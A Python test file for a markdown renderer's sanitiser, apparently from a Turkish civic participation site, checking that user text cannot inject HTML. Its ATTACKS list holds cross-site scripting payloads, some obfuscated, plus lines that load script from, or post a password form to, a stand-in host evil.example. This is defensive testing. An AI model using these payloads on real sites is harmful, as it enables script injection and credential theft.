from html.parser import HTMLParser
from typing import Any

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from participation import richtext
from participation.richtext import render

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'http://evil.example'</style>",
    "<p style='position:fixed'>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a\x00 href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '[x](https://ok.example "\\" onmouseover=alert(1) \\"")',
    "[x](https://ok.example\" onmouseover='alert(1)')",
    '`<img src=x onerror="alert(1)">`',
    '```"><script>alert(1)</script>\nx\n```',
    "~~~ html onload=alert(1)\n<b>\n~~~",
    "| <script>alert(1)</script> |\n|:--:|\n| <img src=x onerror=alert(1)> |",
    "<<script>alert(1)//<</script>",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    'http://evil.example/"onmouseover=alert(1)',
    "https://evil.example/<script>alert(1)</script>",
    "[a](<javascript:alert(1)>)",
    "# <svg onload=alert(1)>",
    "1. <b onclick=alert(1)>x</b>",
]


class Outline(HTMLParser):
    """Tags with attributes, and the text between them, whatever way the characters were escaped."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[tuple[str, Any]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append((tag, tuple(attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.parts.append((f"/{tag}", ()))

    def handle_data(self, data: str) -> None:
        if self.parts and self.parts[-1][0] == "text":
            data = self.parts.pop()[1] + data
        self.parts.append(("text", data))

    def handle_comment(self, data: str) -> None:
        self.parts.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        self.parts.append(("declaration", decl))


def sanitised_by_another(html: str) -> str:
    return nh3.clean(
        html,
        tags=set(richtext.TAGS),
        attributes={"a": {"href", "title", "rel"}, "ol": {"start"}},
        url_schemes=set(richtext.PROTOCOLS),
        link_rel=None,
    )


def assert_harmless(markdown: str) -> None:
    html = render(markdown)
    outline = Outline(html).parts
    assert outline == Outline(sanitised_by_another(html)).parts
    assert {name.removeprefix("/") for name, _ in outline} <= richtext.TAGS | {"text"}
    for tag, attributes in outline:
        if tag == "a":
            assert dict(attributes)["rel"] == "nofollow ugc"


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_as_text_or_not_at_all(attack):
    assert_harmless(attack)


def test_html_is_shown_as_the_text_it_is():
    assert render("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


@given(st.text(max_size=300))
def test_any_text_comes_out_harmless(markdown):
    assert_harmless(markdown)


@given(
    st.lists(
        st.sampled_from(
            [
                *ATTACKS,
                "[",
                "]",
                "(",
                ")",
                "<",
                ">",
                "`",
                "*",
                "_",
                "~~",
                "\n",
                "\n\n",
                "    ",
                "> ",
                "- ",
                "|",
                '"',
            ]
        ),
        max_size=12,
    ).map("".join)
)
def test_attacks_put_together_with_markup_come_out_harmless(markdown):
    assert_harmless(markdown)


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**Kordon** *yaya* ~~yol~~", "<p><strong>Kordon</strong> <em>yaya</em> <s>yol</s></p>\n"),
        ("bir\niki", "<p>bir<br>\niki</p>\n"),
        ("# Başlık", "<h3>Başlık</h3>\n"),
        ("##### Küçük", "<h6>Küçük</h6>\n"),
        ("3. üç", '<ol start="3">\n<li>üç</li>\n</ol>\n'),
        ("```\n<kod>\n```", "<pre><code>&lt;kod&gt;\n</code></pre>\n"),
        (
            "[Meydan](https://meydan.example)",
            '<p><a href="https://meydan.example" rel="nofollow ugc">Meydan</a></p>\n',
        ),
        ("[liste](/yoklamalar/)", '<p><a href="/yoklamalar/" rel="nofollow ugc">liste</a></p>\n'),
        (
            "bkz. https://izmir.example/a",
            '<p>bkz. <a href="https://izmir.example/a" rel="nofollow ugc">https://izmir.example/a</a></p>\n',
        ),
        ("[x](//evil.example)", '<p><a rel="nofollow ugc">x</a></p>\n'),
        ("[x](/\\\\evil.example)", '<p><a href="/%5Cevil.example" rel="nofollow ugc">x</a></p>\n'),
        ("[x](https:evil.example)", '<p><a rel="nofollow ugc">x</a></p>\n'),
        ("[x](yoklamalar/)", '<p><a rel="nofollow ugc">x</a></p>\n'),
        ("[ana](/)", '<p><a href="/" rel="nofollow ugc">ana</a></p>\n'),
        ("[yaz](mailto:a@b.example)", '<p><a href="mailto:a@b.example" rel="nofollow ugc">yaz</a></p>\n'),
        ("o geldi.de ki", "<p>o geldi.de ki</p>\n"),
        ("a@b.example", "<p>a@b.example</p>\n"),
        (
            "![harita](https://a.example/h.png)",
            '<p>!<a href="https://a.example/h.png" rel="nofollow ugc">harita</a></p>\n',
        ),
        (
            "| a |\n|:-:|\n| b |",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>b</td>\n</tr>\n</tbody>\n</table>\n",
        ),
        ("", ""),
    ],
)
def test_markdown_becomes(markdown, html):
    assert render(markdown) == html


def test_what_no_page_can_carry_is_replaced():
    assert render("a\x00b\ud800c") == "<p>a\N{REPLACEMENT CHARACTER}b\N{REPLACEMENT CHARACTER}c</p>\n"


def test_result_is_safe_for_templates():
    assert render("x").__html__() == "<p>x</p>\n"


def test_deep_nesting_and_long_runs_end_in_time():
    for markdown in (">" * 5000 + "x", "[" * 5000, "*a " * 5000, "`" * 5001, "- " * 2000 + "x", "|" * 3000):
        render(markdown)
